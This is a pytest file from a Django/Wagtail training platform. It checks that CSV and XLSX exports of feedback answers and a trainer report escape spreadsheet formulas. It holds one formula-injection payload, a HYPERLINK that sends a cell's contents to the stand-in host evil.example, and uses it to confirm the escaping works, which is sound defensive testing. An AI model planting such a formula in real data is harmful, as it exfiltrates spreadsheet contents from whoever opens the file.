"""No spreadsheet export runs a formula someone typed (review L4).

A trainee answered the end-of-course feedback form with ``=HYPERLINK(...)``, and
Wagtail's export of the answers (``/admin/forms/submissions/<id>/?export=csv``)
wrote it as it was: a spreadsheet would run it for the trainer who opened it. Our
own CSVs already neutralised such cells; Wagtail's exports of our data now do too,
in CSV and XLSX.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lms.cohorts.models import FeedbackSubmission

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
NEUTRALISED = "'" + PAYLOAD


def _rows(response) -> list[list[str]]:
    if response["Content-Type"] == "text/csv":
        text = b"".join(response.streaming_content).decode()
        return list(csv.reader(io.StringIO(text)))
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_feedback_answers_export_without_formulas(client, world, export):
    FeedbackSubmission.objects.create(
        page=world.feedback_form,
        form_data={"what_helped": PAYLOAD},
        user=world.user("trainee"),
    )
    client.force_login(world.user("admin"))
    url = reverse("wagtailforms:list_submissions", args=[world.feedback_form.pk])
    response = client.get(url, {"export": export})
    assert response.status_code == 200
    cells = [cell for row in _rows(response) for cell in row]
    assert NEUTRALISED in cells
    assert PAYLOAD not in cells


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_second_step_report_exports_names_without_formulas(client, world, export):
    trainer = world.user("trainer")
    trainer.full_name = PAYLOAD
    trainer.save()
    client.force_login(world.user("admin"))
    response = client.get(reverse("lms_second_step_report"), {"export": export})
    assert response.status_code == 200
    cells = [cell for row in _rows(response) for cell in row]
    assert NEUTRALISED in cells
    assert PAYLOAD not in cells
